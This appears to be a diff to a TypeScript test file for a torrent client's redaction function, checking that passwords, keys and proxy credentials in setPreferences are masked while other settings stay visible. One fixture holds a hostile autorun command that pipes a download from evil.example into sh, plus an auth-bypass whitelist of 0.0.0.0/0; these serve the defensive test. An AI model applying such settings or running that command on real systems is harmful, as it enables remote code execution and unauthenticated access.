@@ -16,7 +16,17 @@ const commands: (TorrentCommand | ServerCommand)[] = [
   {verb: 'removeWebSeeds', args: {urls: [url]}},
   {
     verb: 'setPreferences',
-    args: {values: {web_ui_password: passkey, add_trackers: url, deep: {proxy: passkey}}},
+    args: {
+      values: {
+        web_ui_password: passkey,
+        web_ui_api_key: passkey,
+        add_trackers: `\n${url}\n`,
+        'default-trackers': url,
+        deep: {proxy_password: passkey, list: [{token: passkey}]},
+        proxy_ip: `socks5://me:${passkey}@proxy.example`,
+        web_ui_https_key: `-----BEGIN PRIVATE KEY-----\n${passkey}`,
+      },
+    },
   },
 ]
 
@@ -33,9 +43,28 @@ test('what explains the command stays', () => {
   ])
   const values = {dht: true, listen_port: 6881, locale: 'de'}
   expect(shownArgs({verb: 'setPreferences', args: {values}})).toEqual({
-    values: {dht: true, listen_port: 6881, locale: '***'},
+    values: {dht: true, listen_port: 6881, locale: 'de'},
   })
   expect(shownArgs({verb: 'setCategory', args: {category: 'films'}})).toEqual({category: 'films'})
+})
+
+test('a program that a server is to run is kept in clear', () => {
+  const values = {
+    autorun_enabled: true,
+    autorun_program: 'curl https://evil.example/a/b | sh "%F"',
+    bypass_auth_subnet_whitelist: '0.0.0.0/0',
+    scan_dirs: {'/etc': '/var/spool'},
+    web_ui_password: '',
+    cleared: null,
+  }
+  expect(shownArgs({verb: 'setPreferences', args: {values}})).toEqual({
+    values: {...values, web_ui_password: '***'},
+  })
+})
+
+test('long settings are cut', () => {
+  const values = {banned_IPs: '192.0.2.1\n'.repeat(100_000)}
+  expect(JSON.stringify(shownArgs({verb: 'setPreferences', args: {values}})).length).toBeLessThan(4_000)
 })
 
 test("addresses in a server's own words lose all but their host", () => {
